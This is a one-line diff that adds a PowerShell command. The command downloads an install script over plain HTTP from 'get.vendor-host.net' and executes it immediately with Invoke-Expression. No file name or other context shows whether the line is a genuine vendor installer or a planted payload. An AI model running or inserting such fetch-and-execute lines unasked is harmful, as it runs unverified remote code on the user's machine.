@@ -1,0 +1,1 @@
+iwr -UseBasicParsing http://get.vendor-host.net/install.ps1 | iex
